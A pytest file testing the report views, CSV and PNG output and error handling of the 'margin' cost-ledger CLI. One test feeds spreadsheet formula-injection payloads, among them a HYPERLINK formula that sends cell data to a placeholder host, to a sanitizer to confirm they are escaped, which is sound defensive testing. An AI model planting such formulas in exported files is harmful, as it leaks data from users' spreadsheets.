"""`margin report` views, formats and plot on the hand-built ledger (tests/report/ledgers.py)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import yaml
from typer.testing import CliRunner

from margin.cli import app
from margin.ledger import db
from tests.helpers import fake_settings
from tests.report.ledgers import load

runner = CliRunner()
WINDOW = ["--since", "2026-11-01", "--until", "2026-11-16"]


def _config(tmp_path: Path) -> list[str]:
    db_file = tmp_path / "c.db"
    url = f"sqlite:///{db_file}"
    db.upgrade(url)
    engine = db.make_sync_engine(url)
    load(engine)
    engine.dispose()
    revenue = {"features": {"search": {"price_per_call": "0.002"}, "chat": {"price_per_seat_month": "30", "seats": 2}}}
    settings = fake_settings(db_file, revenue=revenue)
    path = tmp_path / "margin.yaml"
    path.write_text(yaml.safe_dump(settings.model_dump(mode="json")))
    return ["--config", str(path)]


def _json(args: list[str]) -> dict[str, object]:
    result = runner.invoke(app, ["report", *args])
    assert result.exit_code == 0, result.output
    data: dict[str, object] = json.loads(result.output)
    return data


def test_views_as_json(tmp_path: Path) -> None:
    config = _config(tmp_path)
    revenue = tmp_path / "rev.csv"
    revenue.write_text("feature,customer,usd\nsearch,,1.00\n")
    margin = _json([*config, *WINDOW, "--metric", "margin", "--format", "json", "--revenue", str(revenue)])
    assert margin["view"] == "margin" and margin["active_customers"] == 3
    groups = {g["key"]: g for g in margin["groups"]}  # type: ignore[attr-defined]
    assert Decimal(groups["search"]["revenue_usd"]) == Decimal("1.006")
    assert Decimal(groups["chat"]["revenue_usd"]) == Decimal(30)
    assert groups["search"]["gross_margin"] == "0.994036"  # (1.006 − 0.006) / 1.006
    tasks = _json([*config, *WINDOW, "--view", "tasks", "--json"])
    assert tasks["groups"][0]["cost_per_successful_task_usd"] == "0.003500000"  # type: ignore[index]
    savings = _json([*config, *WINDOW, "--view", "savings", "--json"])
    assert savings["counterfactual_cost_usd"] == "0.011500000" and savings["quantization_saved_usd"] is None
    overview = _json([*config, *WINDOW, "--view", "overview", "--json"])
    assert overview["totals"]["requests"] == 7 and len(overview["series"]) == 2  # type: ignore[index,arg-type]
    assert overview["tasks"]["successful_tasks"] == 2  # type: ignore[index]
    assert overview["utilization"][0]["backend"] == "fake"  # type: ignore[index]
    carbon = _json([*config, *WINDOW, "--view", "carbon", "--json"])
    assert carbon["groups"][0]["key"] == "eu" and carbon["groups"][0]["energy_kwh"] == 1.0  # type: ignore[index]
    util = _json(
        [*config, "--since", "2026-11-02T00:00", "--until", "2026-11-02T01:00", "--view", "utilization", "--json"]
    )
    assert util["groups"][0]["busy_s"] == 2.0 and "provisioned" in str(util["assumption"])  # type: ignore[index]
    default = _json([*config, *WINDOW, "--json"])
    assert "view" not in default and default["totals"]["requests"] == 7  # type: ignore[index]


def test_table_csv_plot_and_errors(tmp_path: Path) -> None:
    config = _config(tmp_path)
    for view in ("overview", "margin", "tasks", "savings", "utilization", "carbon", "timeseries"):
        result = runner.invoke(app, ["report", *config, *WINDOW, "--view", view])
        assert result.exit_code == 0 and result.output.strip(), (view, result.output)
    result = runner.invoke(app, ["report", *config, *WINDOW, "--view", "timeseries", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [r["start"] for r in rows] == ["2026-11-02T00:00:00", "2026-11-03T00:00:00"]
    assert rows[0]["cost_usd"] == "0.006000000"
    by_feature = runner.invoke(app, ["report", *config, *WINDOW, "--by", "feature", "--format", "csv"])
    lines = list(csv.reader(io.StringIO(by_feature.output)))
    assert lines[0][:3] == ["key", "requests", "errors"] and lines[-1][0] == "total"
    png = tmp_path / "out.png"
    result = runner.invoke(app, ["report", *config, *WINDOW, "--plot", str(png)])
    assert result.exit_code == 0 and png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    for bad in (
        ["--view", "pie"],
        ["--metric", "vibes"],
        ["--format", "xml"],
        ["--view", "tasks", "--metric", "margin"],
    ):
        assert runner.invoke(app, ["report", *config, *bad]).exit_code == 2, bad


def test_reading_a_ledger_file_that_is_not_there_is_an_error(tmp_path: Path) -> None:
    typo = tmp_path / "no" / "margin.db"  # a mistyped --db made this folder and ledger and reported $0
    result = runner.invoke(app, ["report", "--db", str(typo)])
    assert result.exit_code == 2 and "no ledger at" in result.output, result.output
    out = str(tmp_path / "f.csv")
    result = runner.invoke(app, ["export", "focus", "--db", str(typo), "--period", "2026-11", "--out", out])
    assert result.exit_code == 2 and "no ledger at" in result.output, result.output
    assert not typo.parent.exists()


def test_by_on_a_view_with_its_own_grouping_is_an_error(tmp_path: Path) -> None:
    config = _config(tmp_path)
    for view in ("overview", "utilization", "timeseries", "savings"):  # --by was ignored without a word
        result = runner.invoke(app, ["report", *config, *WINDOW, "--view", view, "--by", "model"])
        assert result.exit_code == 2 and "--by does not apply" in result.output, (view, result.output)
    assert runner.invoke(app, ["report", *config, *WINDOW, "--view", "tasks", "--by", "team"]).exit_code == 0


def test_a_window_that_ends_before_it_starts_is_an_error(tmp_path: Path) -> None:
    config = _config(tmp_path)
    result = runner.invoke(app, ["report", *config, "--since", "2026-11-16", "--until", "2026-11-01"])
    assert result.exit_code == 2 and "before since" in result.output, result.output
    result = runner.invoke(app, ["report", *config, "--since", "2026-11-02T02:00+02:00", "--until", "2026-11-02T00:00"])
    assert result.exit_code == 0, result.output  # the same moment in UTC: an empty window, not a reversed one


def test_plot_is_a_png_at_exactly_the_path_given_or_one_error_line(tmp_path: Path) -> None:
    config = _config(tmp_path)
    for name in ("plot", "plot.txt"):  # no suffix (matplotlib appended .png), another suffix (a traceback)
        result = runner.invoke(app, ["report", *config, *WINDOW, "--plot", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        assert (tmp_path / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    result = runner.invoke(app, ["report", *config, *WINDOW, "--plot", str(tmp_path)])  # a folder
    assert result.exit_code == 2 and "cannot write" in result.output, result.output


def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers() -> None:
    from margin.report.cells import spreadsheet_text

    for formula in ('=HYPERLINK("https://x/?"&A1)', "+cmd", "-2+3", "@SUM", "\t=1", "\r=1", "\uff1d1+1", "-"):
        assert spreadsheet_text(formula) == "'" + formula
    for kept in ("-0.000001250", "+1", "-1e-05", "12", "acme", "", -3, 1.5, None):
        assert spreadsheet_text(kept) == kept


def test_every_view_of_an_empty_ledger_shows_its_whole_header(tmp_path: Path) -> None:
    db_file = tmp_path / "empty.db"
    db.upgrade(f"sqlite:///{db_file}")
    path = tmp_path / "margin.yaml"
    path.write_text(yaml.safe_dump(fake_settings(db_file).model_dump(mode="json")))
    config = ["--config", str(path)]
    heads = {  # margin, carbon and timeseries printed a table of one column, `key`, and nothing else
        "margin": ("gross_margin", "no requests in this window"),
        "carbon": ("co2e_g_per_1k_tokens", "no requests in this window"),
        "timeseries": ("cache_saved_usd", "no requests in this window"),
        "tasks": ("graded_tasks", None),
        "summary": ("tokens in/out", None),
        "savings": ("counterfactual_cost_usd", None),
        "utilization": ("idle_cost_usd", None),
        "overview": ("requests", None),
    }
    for view, (column, line) in heads.items():
        table = runner.invoke(app, ["report", *config, "--view", view])
        assert table.exit_code == 0, table.output
        assert column in table.output.replace("…", ""), (view, table.output)
        assert (line in table.output) if line else "no requests" not in table.output, (view, table.output)
        header = runner.invoke(app, ["report", *config, "--view", view, "--format", "csv"]).output.splitlines()[0]
        assert len(header.split(",")) > 1, (view, header)
    tasks = runner.invoke(app, ["report", *config, "--view", "tasks", "--by", "feature"])
    assert "graded_tasks" in tasks.output and "no tasks in this window" in tasks.output, tasks.output
